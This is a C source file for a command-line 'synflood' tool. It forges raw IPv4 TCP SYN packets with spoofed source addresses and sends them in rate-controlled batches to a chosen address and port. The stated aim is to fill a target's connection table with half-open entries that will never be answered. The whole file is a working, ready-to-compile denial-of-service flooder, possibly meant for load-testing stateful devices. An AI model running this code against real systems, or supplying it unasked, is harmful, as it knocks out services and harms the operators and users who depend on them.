/* SPDX-License-Identifier: BSD-2-Clause */
/* Sends SYNs from sources that will never answer: every one a new connection for whoever keeps a table of them.
 *
 *     synflood -t ADDRESS:PORT -s FIRST_SOURCE -n SOURCES -c COUNT -r PER_SECOND        (IPv4, raw socket)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "common.h"

#define BATCH 32

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
};

struct flood {
	struct sockaddr_storage target, first;
	long sources, count, per_second;
};

static uint32_t sum(const void *data, size_t length, uint32_t so_far)
{
	const uint8_t *byte = data;
	size_t i;

	for (i = 0; i < length; i += 2)
		so_far += (uint32_t)byte[i] << 8 | byte[i + 1];
	return so_far;
}

static uint16_t fold(uint32_t total)
{
	total = (total & 0xffff) + (total >> 16);
	total = (total & 0xffff) + (total >> 16);
	return htons((uint16_t)~total);
}

/* The kernel fills in the IP header's length, identification and checksum (raw(7)). */
static void make_syn(const struct flood *flood, long number, struct syn *ret)
{
	const struct sockaddr_in *target = (const struct sockaddr_in *)&flood->target;
	struct sockaddr_storage source;
	uint32_t total;

	address_plus(&flood->first, (uint32_t)(number % flood->sources), &source);
	memset(ret, 0, sizeof(*ret));
	ret->ip.version = 4;
	ret->ip.ihl = 5;
	ret->ip.ttl = 64;
	ret->ip.protocol = IPPROTO_TCP;
	ret->ip.saddr = ((struct sockaddr_in *)&source)->sin_addr.s_addr;
	ret->ip.daddr = target->sin_addr.s_addr;
	ret->tcp.source = htons((uint16_t)(1024 + number / flood->sources));
	ret->tcp.dest = target->sin_port;
	ret->tcp.seq = htonl((uint32_t)random());
	ret->tcp.doff = 5;
	ret->tcp.syn = 1;
	ret->tcp.window = htons(64240);
	total = sum(&ret->ip.saddr, 8, IPPROTO_TCP + sizeof(ret->tcp));
	ret->tcp.check = fold(sum(&ret->tcp, sizeof(ret->tcp), total));
}

/* How many of [number, number + BATCH) were sent. */
static long send_batch(int fd, const struct flood *flood, long number)
{
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec vectors[BATCH];
	struct syn syns[BATCH];
	long left = flood->count - number;
	unsigned int i, n = left < BATCH ? (unsigned int)left : BATCH;
	int sent;

	for (i = 0; i < n; i++) {
		make_syn(flood, number + i, &syns[i]);
		vectors[i] = (struct iovec){ &syns[i], sizeof(syns[i]) };
		messages[i].msg_hdr.msg_name = (void *)&flood->target;
		messages[i].msg_hdr.msg_namelen = sizeof(struct sockaddr_in);
		messages[i].msg_hdr.msg_iov = &vectors[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	sent = sendmmsg(fd, messages, n, 0);
	if (sent < 0 && errno != ENOBUFS && errno != EAGAIN)
		die("sendmmsg: %s", strerror(errno));
	return sent < 0 ? 0 : sent;
}

static void run(int fd, const struct flood *flood)
{
	uint64_t start = now_ms();
	long sent = 0;

	while (sent < flood->count) {
		if (sent > (long)(now_ms() - start) * flood->per_second / 1000)
			usleep(1000);
		else
			sent += send_batch(fd, flood, sent);
	}
	printf("{\"sent\": %ld, \"milliseconds\": %llu}\n", sent, (unsigned long long)(now_ms() - start));
}

int main(int argc, char **argv)
{
	struct flood flood = { .sources = 1, .count = 1, .per_second = 1000 };
	int option, fd;

	while ((option = getopt(argc, argv, "t:s:n:c:r:")) != -1) {
		switch (option) {
		case 't':
			parse_address(optarg, &flood.target);
			break;
		case 's':
			parse_address(optarg, &flood.first);
			break;
		case 'n':
			flood.sources = parse_number("-n", optarg, 1, 1 << 24);
			break;
		case 'c':
			flood.count = parse_number("-c", optarg, 1, 10000000);
			break;
		case 'r':
			flood.per_second = parse_number("-r", optarg, 1, 1000000);
			break;
		default:
			die("usage: synflood -t ADDRESS:PORT -s FIRST_SOURCE [-n N] [-c COUNT] [-r PER_SECOND]");
		}
	}
	if (flood.target.ss_family != AF_INET || flood.first.ss_family != AF_INET)
		die("-t and -s want IPv4 addresses");
	if (flood.count / flood.sources > 64000)
		die("-c: more than 64000 ports for each source");
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0)
		die("raw socket: %s", strerror(errno));
	run(fd, &flood);
	return 0;
}
